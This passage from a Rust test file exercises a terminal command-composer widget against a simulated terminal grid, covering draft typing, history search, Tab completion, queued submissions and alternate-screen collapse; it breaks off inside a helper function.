//! The composer against a terminal: prompts, submissions, covers and the
//! queue, frame by frame.

use std::ops::{Add, AddAssign, Deref, Sub};

use composer::clock;
use composer::encode::{enter_action, normalize_paste_text, submission_bytes, EnterAction};
use composer::frame::frame_facts;
use composer::gate::{ComposerMode, RawReason};
use composer::history::history_ghost;
use composer::lane::{cover_line_for, lane_content, strip_hidden, LaneContent};
use composer::model;
use composer::model::{RecallSrc, SPACER_QUEUE_CAP};
use composer::play::{EditorDid, Press};
use composer::state::ComposerState;
use composer::strip::{raw_lane, strip_band, FocusMove, RawClick, RawLane, Spot};
use composer::tab::DirList;
use composer::term::{
    BlockFeed, BlockRec, GridRow, GridSize, Reclaim, TermBackend, ALT_SCREEN, BRACKETED_PASTE,
};

type Instant = clock::Instant;

/// A span of time.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
struct Duration(u64);

impl Duration {
    const ZERO: Duration = Duration(0);

    const fn from_millis(n: u64) -> Duration {
        Duration(n * 1_000_000)
    }

    const fn from_secs(n: u64) -> Duration {
        Duration(n * 1_000_000_000)
    }
}

impl Add for Duration {
    type Output = Duration;

    fn add(self, o: Duration) -> Duration {
        Duration(self.0 + o.0)
    }
}

impl Sub for Duration {
    type Output = Duration;

    fn sub(self, o: Duration) -> Duration {
        Duration(self.0 - o.0)
    }
}

impl Add<Duration> for Instant {
    type Output = Instant;

    fn add(self, d: Duration) -> Instant {
        Instant { nanos: self.nanos + d.0 }
    }
}

impl AddAssign<Duration> for Instant {
    fn add_assign(&mut self, d: Duration) {
        self.nanos += d.0;
    }
}

impl Sub<Duration> for Instant {
    type Output = Instant;

    fn sub(self, d: Duration) -> Instant {
        Instant { nanos: self.nanos - d.0 }
    }
}

/// When every test starts.
const T0: Instant = Instant { nanos: 1_000_000_000_000 };

const SETTLE: Duration = Duration(model::SETTLE);
const DEMOTE: Duration = Duration(model::DEMOTE);
const HEUR_FLUSH: Duration = Duration(model::HEUR_FLUSH);
const HEUR_QUIET: Duration = Duration(model::HEUR_QUIET);
const HIDE_AFTER: Duration = Duration(model::HIDE_AFTER);
const POST_SUBMIT_FLUSH: Duration = Duration(model::POST_SUBMIT_FLUSH);
const REVEAL: Duration = Duration(model::REVEAL);
const SUBMIT_HOLD_MAX: Duration = Duration(model::SUBMIT_HOLD_MAX);
const WINDOW_STALE: Duration = Duration(model::WINDOW_STALE);

/// How long output must rest before a provisional prompt end is settled.
const PROMPT_END_QUIESCE: Duration = Duration::from_millis(40);

/// Ctrl+C and Escape as win32 key-event records.
const CTRL_C_RECORD: &[u8] = b"\x1b[67;46;3;1;8;1_\x1b[67;46;3;0;8;1_";
const ESCAPE_RECORD: &[u8] = b"\x1b[27;1;27;1;0;1_\x1b[27;1;27;0;0;1_";

/// A row that is drawn over: a submitted command, or nothing.
#[derive(Clone, Debug)]
struct Cover {
    line: i32,
    col: usize,
    cwd: Option<String>,
    cmd: Option<String>,
}

/// A small terminal: a grid with scrollback, the hooks of the shell
/// integration, and the view of it that the composer reads.
struct Rig {
    screen: Vec<Vec<char>>,
    primary: Option<(Vec<Vec<char>>, usize, usize)>,
    history: Vec<Vec<char>>,
    row: usize,
    col: usize,
    covers: Vec<Cover>,
    clock: Instant,
    view: TermBackend,
}

impl Deref for Rig {
    type Target = TermBackend;

    fn deref(&self) -> &TermBackend {
        &self.view
    }
}

impl Rig {
    fn new(cols: u16, rows: u16) -> Rig {
        let mut rig = Rig {
            screen: vec![vec![' '; cols as usize]; rows as usize],
            primary: None,
            history: Vec::new(),
            row: 0,
            col: 0,
            covers: Vec::new(),
            clock: T0,
            view: TermBackend {
                size: GridSize { cols, rows },
                mode: 0,
                feed_gen: 0,
                history_size: 0,
                cursor_line: 0,
                cursor_col: 0,
                block_feed: None,
                last_output_at: None,
                incoming_prompt_row: None,
                reclaim: Reclaim::Unavailable,
                rows: Vec::new(),
                win32_input: false,
                win32_ctrl_c: Some(CTRL_C_RECORD.to_vec()),
                win32_escape: Some(ESCAPE_RECORD.to_vec()),
            },
        };
        rig.refresh();
        rig
    }

    fn plain() -> Rig {
        Rig::new(80, 24)
    }

    fn enable_block_scan(&mut self) {
        self.view.block_feed = Some(BlockFeed {
            pre_seen: 0,
            exec_seen: 0,
            prompt_end: None,
            prompt_end_pending: false,
            live: false,
        });
    }

    fn now(&self) -> Instant {
        self.clock
    }

    fn sleep(&mut self, d: Duration) {
        self.clock += d;
    }

    fn set_win32(&mut self) {
        self.view.win32_input = true;
    }

    fn cursor_line(&self) -> i32 {
        self.view.cursor_line
    }

    fn cursor_col(&self) -> usize {
        self.view.cursor_col
    }

    fn history_size(&self) -> u32 {
        self.view.history_size
    }

    fn seed_prompt_end(&mut self, line: i32, col: usize) {
        if let Some(f) = &mut self.view.block_feed {
            f.prompt_end = Some((line, col));
            f.prompt_end_pending = false;
        }
        self.refresh();
    }

    fn resize_to(&mut self, cols: u16, rows: u16) {
        self.view.size = GridSize { cols, rows };
        self.screen.resize(rows as usize, Vec::new());
        for row in &mut self.screen {
            row.resize(cols as usize, ' ');
        }
        self.refresh();
    }

    /// Replayed output: read, but not part of the live stream.
    fn advance(&mut self, data: &[u8]) {
        self.parse(data);
        self.view.feed_gen += 1;
        self.refresh();
    }

    fn advance_live(&mut self, data: &[u8]) {
        if let Some(f) = &mut self.view.block_feed {
            f.live = true;
        }
        self.view.last_output_at = Some(self.clock);
        self.advance(data);
    }

    /// Settles a provisional prompt end once output rests.
    fn poll_pending_prompt_end(&mut self, now: Instant) -> Option<Instant> {
        let due = self.view.last_output_at.map(|t| t + PROMPT_END_QUIESCE)?;
        let at = (self.view.cursor_line, self.view.cursor_col);
        let f = self.view.block_feed.as_mut()?;
        if !f.prompt_end_pending {
            return None;
        }
        if now.nanos < due.nanos {
            return Some(due);
        }
        f.prompt_end = Some(at);
        f.prompt_end_pending = false;
        self.view.incoming_prompt_row = None;
        self.refresh();
        None
    }

    fn scroll(&mut self) {
        let cols = self.view.size.cols as usize;
        let top = self.screen.remove(0);
        self.screen.push(vec![' '; cols]);
        if self.primary.is_some() {
            return;
        }
        self.history.push(top);
        for c in &mut self.covers {
            c.line -= 1;
        }
        if let Some(f) = &mut self.view.block_feed {
            f.prompt_end = f.prompt_end.map(|(l, c)| (l - 1, c));
        }
        self.view.incoming_prompt_row = self.view.incoming_prompt_row.map(|l| l - 1);
    }

    fn put(&mut self, c: char) {
        if self.col == self.view.size.cols as usize {
            self.col = 0;
            self.line_feed();
        }
        self.screen[self.row][self.col] = c;
        self.col += 1;
    }

    fn line_feed(&mut self) {
        if self.row + 1 == self.screen.len() {
            self.scroll();
        } else {
            self.row += 1;
        }
    }

    fn hook(&mut self, verb: &str) {
        let (line, col) = (self.row as i32, self.col);
        let Some(f) = &mut self.view.block_feed else { return };
        f.prompt_end = None;
        f.prompt_end_pending = false;
        if verb == "pre" {
            f.pre_seen += 1;
            self.view.incoming_prompt_row = if col == 0 { Some(line) } else { None };
        } else {
            f.exec_seen += 1;
            self.view.incoming_prompt_row = None;
        }
    }

    fn capture(&mut self) {
        let (line, col) = (self.row as i32, self.col);
        let Some(f) = &mut self.view.block_feed else { return };
        f.prompt_end = Some((line, col));
        f.prompt_end_pending = col == 0;
        if col > 0 {
            self.view.incoming_prompt_row = None;
        }
    }

    fn set_mode(&mut self, number: &str, on: bool) {
        let bit = match number {
            "1049" => ALT_SCREEN,
            "2004" => BRACKETED_PASTE,
            "1000" => 0x8,
            _ => 0,
        };
        if on {
            self.view.mode |= bit;
        } else {
            self.view.mode &= !bit;
        }
        if bit == ALT_SCREEN {
            let blank = vec![vec![' '; self.view.size.cols as usize]; self.screen.len()];
            if on && self.primary.is_none() {
                let screen = std::mem::replace(&mut self.screen, blank);
                self.primary = Some((screen, self.row, self.col));
            } else if !on {
                if let Some((screen, row, col)) = self.primary.take() {
                    self.screen = screen;
                    self.row = row;
                    self.col = col;
                }
            }
        }
    }

    fn parse(&mut self, data: &[u8]) {
        let text = String::from_utf8(data.to_vec()).unwrap();
        let chars: Vec<char> = text.chars().collect();
        let mut i = 0;
        while i < chars.len() {
            match chars[i] {
                '\x1b' if chars[i + 1] == ']' => {
                    let end = (i..chars.len()).find(|&k| chars[k] == '\x07').unwrap();
                    let body: String = chars[i + 2..end].iter().collect();
                    let parts: Vec<&str> = body.split(';').collect();
                    if parts[0] == "7717" {
                        self.hook(parts[2]);
                    } else if body == "133;B" {
                        self.capture();
                    }
                    i = end;
                }
                '\x1b' => {
                    let end = (i + 2..chars.len()).find(|&k| chars[k].is_alphabetic()).unwrap();
                    let body: String = chars[i + 2..end].iter().collect();
                    match chars[end] {
                        'h' => self.set_mode(&body[1..], true),
                        'l' => self.set_mode(&body[1..], false),
                        'J' => {
                            for row in &mut self.screen {
                                row.fill(' ');
                            }
                        }
                        'H' => {
                            self.row = 0;
                            self.col = 0;
                        }
                        c => panic!("sequence {c}"),
                    }
                    i = end;
                }
                '\r' => self.col = 0,
                '\n' => self.line_feed(),
                c => self.put(c),
            }
            i += 1;
        }
    }

    fn line_text(&self, line: i32) -> String {
        let cells = if line < 0 {
            &self.history[(self.history.len() as i32 + line) as usize]
        } else {
            &self.screen[line as usize]
        };
        cells.iter().collect()
    }

    fn typed_text(&self) -> Reclaim {
        let Some((line, col)) = self.view.block_feed.as_ref().and_then(|f| f.prompt_end) else {
            return Reclaim::Unavailable;
        };
        if line != self.row as i32 {
            return Reclaim::MultiLine;
        }
        let row = self.line_text(line);
        let typed: String = row.chars().skip(col).collect();
        let typed = typed.trim_end().to_string();
        if self.col < col + typed.chars().count() {
            return Reclaim::MidLine;
        }
        Reclaim::Text(typed)
    }

    fn refresh(&mut self) {
        self.view.cursor_line = self.row as i32;
        self.view.cursor_col = self.col;
        let kept = if self.primary.is_some() { 0 } else { self.history.len() as i32 };
        self.view.history_size = kept as u32;
        let rows = self.screen.len() as i32;
        self.view.rows = (-kept..rows)
            .map(|line| GridRow { line, cells: self.line_text(line).chars().collect() })
            .collect();
        self.view.reclaim = self.typed_text();
    }

    fn add_history_cover(&mut self, line: i32, col: usize, cwd: Option<String>, cmd: String) {
        self.covers.push(Cover { line, col, cwd, cmd: Some(cmd) });
    }

    fn mark_prompt_spacer(&mut self) {
        if let Some((line, col)) = self.view.block_feed.as_ref().and_then(|f| f.prompt_end) {
            self.covers.push(Cover { line, col, cwd: None, cmd: None });
        }
    }

    /// The covers whose rows still show what they stand for.
    fn healthy_covers(&self) -> Vec<Cover> {
        let oldest = -(self.history.len() as i32);
        self.covers
            .iter()
            .filter(|c| c.line >= oldest)
            .filter(|c| match &c.cmd {
                Some(cmd) => self.view.row_has_text_at(c.line, c.col, cmd),
                None => self.line_text(c.line).chars().skip(c.col).all(|ch| ch == ' '),
            })
            .cloned()
            .collect()
    }
}

/// A finished command.
fn rec(cmd: &str) -> BlockRec {
    BlockRec {
        epoch: 1,
        n: 0,
        cmd: cmd.into(),
        cwd: None,
        exit: Some(0),
        started_ms: 0,
        ended_ms: Some(1),
        start_off: 0,
        end_off: Some(1),
        truncated: false,
        nested_shell: false,
    }
}

/// A finished command that ran in `cwd`.
fn rec_at(cmd: &str, cwd: Option<&str>) -> BlockRec {
    BlockRec { cwd: cwd.map(str::to_string), ..rec(cmd) }
}

/// A record of a command that runs.
fn running(cmd: &str, nested_shell: bool) -> BlockRec {
    BlockRec {
        exit: None,
        ended_ms: None,
        end_off: None,
        nested_shell,
        ..rec(cmd)
    }
}

/// A visit to a nested shell without hooks: the hooked prompt, `sudo su` that
/// runs, and the prompt of root as plain output.
fn heur_episode_setup() -> (Rig, ComposerState, Vec<BlockRec>, Instant) {
    let mut b = backend_at_clean_prompt();
    let now = T0;
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    b.advance_live(&hook_bytes("exec", r#"{"c":"sudo su"}"#));
    pump_counters(&mut st, &b, now);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::Busy));
    b.advance_live(b"\r\nroot@box:/# ");
    let recs = vec![running("sudo su", true)];
    (b, st, recs, now)
}

/// The editor, as far as a frame reads it.
#[derive(Default)]
struct Editor {
    focused: bool,
    caret: usize,
}

/// What a frame is given.
#[derive(Default)]
struct Input<'a> {
    text: &'a str,
    enters: u32,
    ctrl_r: u32,
    up: u32,
    right: u32,
    tabs: u32,
    escape: bool,
    overlay_open: bool,
    dead: bool,
    collapsed: bool,
    /// The pointer is over the strip.
    over: bool,
    /// The strip was clicked there.
    click: Option<Spot>,
    cwd: Option<&'a str>,
    dir: Option<&'a DirList>,
}

/// What a frame gives back.
struct Output {
    write: Vec<u8>,
    has_focus: bool,
    restore: bool,
    strip_peek: bool,
    history_btn: bool,
    clicked: RawClick,
}

/// One frame of the strip, in the order in which it is drawn.
fn frame(
    st: &mut ComposerState,
    ed: &mut Editor,
    b: &TermBackend,
    recs: &[BlockRec],
    input: &Input,
) -> Output {
    let run = !input.dead;
    let f = frame_facts(st, b, recs, 1, run, T0);
    let band = strip_band(input.collapsed, input.over);
    let mut out = Output {
        write: Vec::new(),
        has_focus: false,
        restore: false,
        strip_peek: band.peek,
        history_btn: band.history_button,
        clicked: RawClick::Nothing,
    };
    if st.mode != ComposerMode::Compose {
        out.restore =
            st.enter_relaunches(input.collapsed, &f, input.overlay_open, input.enters);
        if let Some(spot) = input.click {
            (out.clicked, out.write) = st.click_strip(input.collapsed, spot, &f, b);
        }
        return out;
    }
    let k = Press {
        overlay_open: input.overlay_open,
        ctrl_r: input.ctrl_r,
        up: input.up,
        down: 0,
        right: input.right,
        enters: input.enters,
        escape: input.escape,
        copy: false,
        grid_selection: false,
        editor_selection: false,
        caret: Some(ed.caret),
    };
    let searched = st.search_active();
    let pressed = st.press(b, recs, &f, run, &k, input.cwd, T0);
    ed.caret = pressed.caret.unwrap_or(ed.caret);
    out.write = pressed.write;
    let byte = st.draft.chars().take(ed.caret).map(char::len_utf8).sum();
    let escape = input.escape && !searched;
    let (caret, took) =
        st.press_tab(input.overlay_open, input.tabs, 0, escape, input.cwd, None, byte, input.dir);
    ed.caret = caret.unwrap_or(ed.caret);
    let changed = ed.focused && !input.text.is_empty();
    if changed {
        let at: usize = st.draft.chars().take(ed.caret).map(char::len_utf8).sum();
        st.draft.insert_str(at, input.text);
        ed.caret += input.text.chars().count();
    }
    let did = EditorDid { changed, lost: false, holding: ed.focused, escape: escape && !took };
    let already = !out.write.is_empty();
    if st.after_editor(&did, input.overlay_open) == FocusMove::Request {
        ed.focused = true;
    }
    let shipped =
        st.after_focus(ed.focused, pressed.submit, already, b, None, input.cwd, T0);
    if let Some((bytes, _)) = shipped {
        out.write = bytes;
    }
    out.has_focus = ed.focused && st.mode == ComposerMode::Compose;
    st.has_focus = out.has_focus;
    out
}

#[test]
fn dead_enter_relaunches() {
    let b = Rig::plain();
    let recs: Vec<BlockRec> = Vec::new();
    let mut ed = Editor::default();
    let enter = Input { enters: 1, dead: true, ..Default::default() };
    let mut st = ComposerState {
        mode: ComposerMode::Raw(RawReason::Dead),
        term_focused: true,
        ..Default::default()
    };
    let o = frame(&mut st, &mut ed, &b, &recs, &enter);
    assert!(o.restore, "a dead terminal with the keyboard and no draft is restored");
    // A draft keeps its Enter.
    st.draft = "queued text".into();
    let o = frame(&mut st, &mut ed, &b, &recs, &enter);
    assert!(!o.restore, "the Enter of a draft restores nothing");
    st.draft.clear();
    // Whatever floats over the card has Enter.
    let over = Input { enters: 1, dead: true, overlay_open: true, ..Default::default() };
    let o = frame(&mut st, &mut ed, &b, &recs, &over);
    assert!(!o.restore, "an overlay has Enter");
    // The keyboard is elsewhere.
    st.term_focused = false;
    let o = frame(&mut st, &mut ed, &b, &recs, &enter);
    assert!(!o.restore, "Enter goes elsewhere");
    st.term_focused = true;
    // Waking takes a click.
    st.asleep = true;
    st.mode = ComposerMode::Raw(RawReason::Asleep);
    let o = frame(&mut st, &mut ed, &b, &recs, &enter);
    assert!(!o.restore, "Enter never wakes");
    st.asleep = false;
    // So does ending a reconnection.
    st.mode = ComposerMode::Raw(RawReason::Dead);
    st.reconnecting = true;
    let o = frame(&mut st, &mut ed, &b, &recs, &enter);
    assert!(!o.restore, "Enter neither restores nor cancels");
    st.reconnecting = false;
    // A terminal that runs is never restored.
    st.mode = ComposerMode::Raw(RawReason::NoPrompt);
    let run = Input { enters: 1, ..Default::default() };
    let o = frame(&mut st, &mut ed, &b, &recs, &run);
    assert!(!o.restore, "nothing to restore");
}

#[test]
fn show_peeks_without_interaction_while_collapsed() {
    let mut b = Rig::plain();
    b.advance_live(b"\x1b[?1049h\x1b[2J\x1b[Htui frame");
    assert!(b.is_alt());
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    st.tick(&b, &recs, true, false, T0);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::AltScreen));
    st.alt_since = Some(T0 - (HIDE_AFTER + Duration::from_millis(200)));
    let mut ed = Editor::default();
    let at = |collapsed, over| Input { collapsed, over, ..Default::default() };
    let collapsed = strip_hidden(&st, true, true, false, T0);
    assert!(collapsed, "a screen that is held has the band");
    // The pointer is in the grid: nothing to see, nothing to click.
    let out = frame(&mut st, &mut ed, &b, &recs, &at(collapsed, false));
    assert!(!out.history_btn, "no button while collapsed");
    assert!(!out.strip_peek, "no overlay without the pointer");
    // The pointer is over the band: the overlay is there in the same frame, to
    // look at and no more.
    let out = frame(&mut st, &mut ed, &b, &recs, &at(collapsed, true));
    assert!(out.strip_peek, "the pointer brings the overlay");
    assert!(!out.history_btn, "still nothing to click");
    assert!(strip_hidden(&st, true, true, false, T0), "the pointer resizes nothing");
    for spot in [Spot::History, Spot::Run, Spot::Elsewhere] {
        let click = Input { click: Some(spot), ..at(collapsed, true) };
        let out = frame(&mut st, &mut ed, &b, &recs, &click);
        assert_eq!(out.clicked, RawClick::Nothing);
        assert!(out.write.is_empty());
    }
    let f = frame_facts(&st, &b, &recs, 1, true, T0);
    assert!(matches!(raw_lane(&st, &f, &b, &recs, true, T0), RawLane::AltScreen));
    // The pointer leaves: the overlay is gone.
    let out = frame(&mut st, &mut ed, &b, &recs, &at(collapsed, false));
    assert!(!out.strip_peek, "without the pointer no overlay");
    // The program leaves the screen: the strip is back in the same frame.
    b.advance_live(b"\x1b[?1049l");
    st.tick(&b, &recs, true, false, T0);
    let collapsed = strip_hidden(&st, true, false, false, T0);
    assert!(!collapsed, "the band is the strip's again");
    let out = frame(&mut st, &mut ed, &b, &recs, &at(collapsed, false));
    assert!(out.history_btn, "the strip has its controls again");
    assert!(!out.strip_peek);
    let click = Input { click: Some(Spot::History), ..at(collapsed, true) };
    let out = frame(&mut st, &mut ed, &b, &recs, &click);
    assert_eq!(out.clicked, RawClick::ToggleHistory);
}

#[test]
fn show_heur_types_and_submits() {
    let (b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose);
    let mut ed = Editor::default();
    let o = frame(&mut st, &mut ed, &b, &recs, &Input::default());
    assert!(o.has_focus, "the open editor takes the focus");
    // What is typed is the draft's: nothing reaches the terminal.
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { text: "whoami", ..Default::default() });
    assert!(o.write.is_empty());
    assert_eq!(st.draft, "whoami");
    // Enter goes through the ledger.
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { enters: 1, ..Default::default() });
    assert!(o.write.is_empty());
    assert_eq!(st.take_submit_cmd().as_deref(), Some("whoami"));
    assert!(st.draft.is_empty());
    assert!(st.buffering(), "the window is open");
}

#[test]
fn show_tab_without_candidates_never_accepts_ghost() {
    let cwd = r"C:\scratch";
    let empty = DirList { entries: Vec::new(), total: 0 };
    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, T0);
    // A command from the same directory, so that it is suggested.
    let recs = vec![rec_at("cd Users\\proj", Some(cwd))];
    st.tick(&b, &recs, true, true, T0);
    assert_eq!(st.mode, ComposerMode::Compose);
    let mut ed = Editor::default();
    let with = |text, tabs, right| Input {
        text,
        tabs,
        right,
        cwd: Some(cwd),
        dir: Some(&empty),
        ..Default::default()
    };
    frame(&mut st, &mut ed, &b, &recs, &with("", 0, 0));
    frame(&mut st, &mut ed, &b, &recs, &with("cd U", 0, 0));
    assert_eq!(st.draft, "cd U");
    assert_eq!(
        history_ghost(&recs, &st.draft, &st.fam, Some(cwd)).as_deref(),
        Some("sers\\proj")
    );
    // Tab without candidates leaves the draft alone.
    frame(&mut st, &mut ed, &b, &recs, &with("", 1, 0));
    assert_eq!(st.draft, "cd U", "Tab must not accept the ghost");
    assert!(!st.tab_active(), "no cycle exists without candidates");
    // An arrow to the right, at the end, takes the suggestion.
    frame(&mut st, &mut ed, &b, &recs, &with("", 0, 1));
    assert_eq!(st.draft, "cd Users\\proj", "ArrowRight accepts");
}

#[test]
fn show_ctrl_r_search_flow() {
    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, T0);
    let recs: Vec<BlockRec> =
        ["git status", "cargo build", "git commit -m x"].iter().map(|c| rec(c)).collect();
    st.tick(&b, &recs, true, true, T0);
    assert_eq!(st.mode, ComposerMode::Compose);
    let mut ed = Editor::default();
    let none = Input::default();
    let o = frame(&mut st, &mut ed, &b, &recs, &none);
    assert!(o.has_focus);
    frame(&mut st, &mut ed, &b, &recs, &Input { text: "car", ..Default::default() });
    assert_eq!(st.draft, "car");
    // Ctrl+R opens the search; the draft is set aside.
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { ctrl_r: 1, ..Default::default() });
    assert!(st.search_active());
    assert_eq!(st.draft, "");
    assert!(o.write.is_empty());
    // What is typed is the query.
    frame(&mut st, &mut ed, &b, &recs, &Input { text: "git", ..Default::default() });
    assert!(st.search_active());
    assert_eq!(st.draft, "git");
    // Nothing is suggested or completed.
    frame(&mut st, &mut ed, &b, &recs, &Input { right: 1, ..Default::default() });
    assert_eq!(st.draft, "git");
    frame(&mut st, &mut ed, &b, &recs, &Input { tabs: 1, ..Default::default() });
    assert_eq!(st.draft, "git");
    // Up selects the older match.
    frame(&mut st, &mut ed, &b, &recs, &Input { up: 1, ..Default::default() });
    assert_eq!(st.search.as_ref().unwrap().sel, 1);
    // Enter takes it into the draft and submits nothing.
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { enters: 1, ..Default::default() });
    assert!(!st.search_active());
    assert_eq!(st.draft, "git status");
    assert!(o.write.is_empty());
    assert!(st.take_submit_cmd().is_none());
    assert!(!st.buffering());
    assert_eq!(st.mode, ComposerMode::Compose);
    // Typing goes on in the draft.
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { text: "X", ..Default::default() });
    assert!(o.has_focus);
    assert_eq!(st.draft, "git statusX");
    // Escape restores the draft, and the editor stays.
    frame(&mut st, &mut ed, &b, &recs, &Input { ctrl_r: 1, ..Default::default() });
    assert!(st.search_active());
    frame(&mut st, &mut ed, &b, &recs, &Input { text: "zzz", ..Default::default() });
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { escape: true, ..Default::default() });
    assert!(!st.search_active());
    assert_eq!(st.draft, "git statusX");
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(o.write.is_empty());
}

#[test]
fn show_busy_types_and_queues_enter() {
    let recs: Vec<BlockRec> = Vec::new();
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, T0), Some(5));
    st.draft = "cargo build".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    let mut exec = hook_bytes("exec", r#"{"c":"cargo build"}"#);
    exec.extend_from_slice(b"cargo build\r\n   Compiling...\r\n");
    b.advance_live(&exec);
    pump_counters(&mut st, &b, T0);
    // The window is over, the command still runs.
    st.post_submit = None;
    st.submit_hold = None;
    assert!(!st.buffering());
    let mut ed = Editor::default();
    let o = frame(&mut st, &mut ed, &b, &recs, &Input::default());
    assert!(o.has_focus);
    assert_eq!(st.mode, ComposerMode::Compose);
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { text: "git st", ..Default::default() });
    assert!(o.write.is_empty());
    assert_eq!(st.draft, "git st");
    // Enter queues.
    let o = frame(&mut st, &mut ed, &b, &recs, &Input { enters: 1, ..Default::default() });
    assert!(o.write.is_empty());
    assert_eq!(st.pending.len(), 1);
    assert_eq!(st.pending[0], "git st");
    assert!(st.draft.is_empty());
    assert_eq!(st.mode, ComposerMode::Compose);
}

#[test]
fn search_suppresses_tab_and_dies_with_compose() {
    let cwd = r"C:\scratch";
    let dir = DirList {
        entries: vec![composer::candidates::Entry { name: "alpha".into(), dir: true }],
        total: 1,
    };
    let mut st =
        ComposerState { mode: ComposerMode::Compose, draft: "cd ".into(), ..Default::default() };
    st.search_begin();
    st.draft = "cd ".into();
    assert_eq!(st.tab_press(Some(cwd), None, 3, 1, Some(&dir)), None);
    assert_eq!(st.draft, "cd ");
    // Leaving the editor restores what was set aside.
    st.blur_to_grid();
    assert!(!st.search_active());
    assert_eq!(st.draft, "cd ");
    // So does an editor that was taken away.
    let b = backend_at_clean_prompt();
    let mut st =
        ComposerState { mode: ComposerMode::Compose, draft: "kept".into(), ..Default::default() };
    st.search_begin();
    st.draft = "query".into();
    st.mode = ComposerMode::Raw(RawReason::NoPrompt);
    let recs: Vec<BlockRec> = Vec::new();
    st.tick(&b, &recs, true, false, T0);
    assert!(!st.search_active());
    assert_eq!(st.draft, "kept");
    // Without a search Tab works.
    let mut st =
        ComposerState { mode: ComposerMode::Compose, draft: "cd ".into(), ..Default::default() };
    assert!(st.tab_press(Some(cwd), None, 3, 1, Some(&dir)).is_some());
}

#[test]
fn alt_flap_never_collapses() {
    let mut b = Rig::plain();
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    let mut t = T0;
    for _ in 0..5 {
        b.advance_live(b"\x1b[?1049h\x1b[2J\x1b[Hflap");
        st.tick(&b, &recs, true, false, t);
        t += HIDE_AFTER - Duration::from_millis(20);
        st.tick(&b, &recs, true, false, t);
        assert!(
            !strip_hidden(&st, true, true, false, t),
            "sub-HIDE_AFTER alt hold must never collapse"
        );

        b.advance_live(b"\x1b[?1049l");
        t += Duration::from_millis(10);
        st.tick(&b, &recs, true, false, t);
        assert!(!strip_hidden(&st, true, false, false, t));
        assert_eq!(st.alt_since, None);
        t += Duration::from_millis(10);
    }

    b.advance_live(b"\x1b[?1049h");
    st.tick(&b, &recs, true, false, t);
    assert!(strip_hidden(&st, true, true, false, t + HIDE_AFTER));
}

#[test]
fn tick_maintains_alt_since() {
    let mut b = Rig::plain();
    b.advance_live(b"\x1b[?1049h\x1b[2J\x1b[Htui frame");
    assert!(b.is_alt());
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    let t0 = T0;
    st.tick(&b, &recs, true, false, t0);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::AltScreen));
    assert_eq!(st.alt_since, Some(t0), "rising edge stamps the clock");
    assert!(
        !strip_hidden(&st, true, true, false, t0),
        "not hidden before the hysteresis elapses"
    );

    let t1 = t0 + HIDE_AFTER;
    st.tick(&b, &recs, true, false, t1);
    assert_eq!(st.alt_since, Some(t0));
    assert!(
        strip_hidden(&st, true, true, false, t1),
        "hidden once alt has been stable for HIDE_AFTER"
    );

    st.asleep = true;
    st.tick(&b, &recs, true, false, t1);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::Asleep));
    assert!(!strip_hidden(&st, true, true, false, t1));
    st.asleep = false;

    b.advance_live(b"\x1b[?1049l");
    let t2 = t1 + Duration::from_millis(10);
    st.tick(&b, &recs, true, false, t2);
    assert_eq!(st.alt_since, None, "falling edge clears the clock");
    assert!(!strip_hidden(&st, true, false, false, t2));

    b.advance_live(b"\x1b[?1049h");
    let t3 = t2 + Duration::from_millis(10);
    st.tick(&b, &recs, true, false, t3);
    assert_eq!(st.alt_since, Some(t3), "re-entry restarts the hysteresis");
    assert!(!strip_hidden(&st, true, true, false, t3));
    assert!(strip_hidden(&st, true, true, false, t3 + HIDE_AFTER));
}

#[test]
fn episode_rules() {
    let now = T0;
    let mut st = ComposerState::default();

    st.on_raw_input(now);
    assert!(!st.episode_used);

    st.on_stream_events(1, 0, now);
    assert!(st.at_prompt_latched());
    st.mode = ComposerMode::Compose;
    st.on_raw_input(now);
    assert!(st.episode_used);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::UserRaw));

    let backend = Rig::plain();
    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.mode = ComposerMode::Compose;
    st.draft = "echo hi".into();
    let (bytes, spacer) = st.submit(&backend, None, None, T0);
    assert_eq!(bytes, b"echo hi\r");
    assert!(!spacer);
    assert!(st.draft.is_empty());
    assert!(st.episode_used);
    assert_eq!(st.mode, ComposerMode::Compose, "typeahead: never yields raw");
    assert!(st.buffering(), "submit opens the typeahead window");

    st.on_stream_events(1, 1, now);
    assert!(!st.at_prompt_latched());
    assert_eq!(st.mode, ComposerMode::Compose);

    st.on_stream_events(2, 1, now);
    assert!(st.at_prompt_latched());
    assert!(!st.episode_used);
    assert_eq!(st.mode, ComposerMode::Compose);

    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.mode = ComposerMode::Compose;
    st.has_focus = true;
    st.on_stream_events(1, 1, now);
    assert_eq!(st.mode, ComposerMode::Compose);

    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.mode = ComposerMode::Compose;
    st.on_stream_events(1, 1, now);
    assert_eq!(st.mode, ComposerMode::Compose, "exec edge never demotes Compose");
}

fn backend_at_clean_prompt() -> Rig {
    let mut b = Rig::plain();
    b.enable_block_scan();

